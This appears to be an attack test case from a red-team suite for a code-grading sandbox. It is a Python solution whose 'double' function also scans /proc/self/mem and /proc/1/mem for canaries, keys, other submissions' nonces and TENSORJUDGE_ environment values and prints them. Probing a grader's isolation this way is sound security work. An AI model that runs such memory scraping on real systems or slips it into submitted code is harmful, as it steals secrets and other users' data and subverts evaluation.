# attack: scan /proc/self/mem and /proc/1/mem for secrets (canaries, keys, other submissions)
# category: information
# expect: AC
import re


def scan(pid):
    hits = []
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as e:
        return [f"{pid}: {e}"]
    pattern = re.compile(rb"(canary-[0-9a-f]{8,}|other-[0-9a-f]{8,}|key-[0-9a-f]{8,}|"
                         rb"victim-nonce-[0-9a-f]{8,}|reference-canary-[0-9a-f]{8,}|TENSORJUDGE_\w+=\S+)")
    for line in maps:
        addr, perms = line.split()[:2]
        if "r" not in perms:
            continue
        lo, hi = (int(v, 16) for v in addr.split("-"))
        if hi - lo > 64 << 20:
            continue
        try:
            mem.seek(lo)
            chunk = mem.read(hi - lo)
        except (OSError, OverflowError, ValueError):
            continue
        hits += [m.group(0)[:80] for m in pattern.finditer(chunk)]
    return hits


def double(x):
    print("self:", sorted(set(scan("self")))[:50])
    print("init:", sorted(set(scan(1)))[:50])
    return (2 * x).reshape(-1)
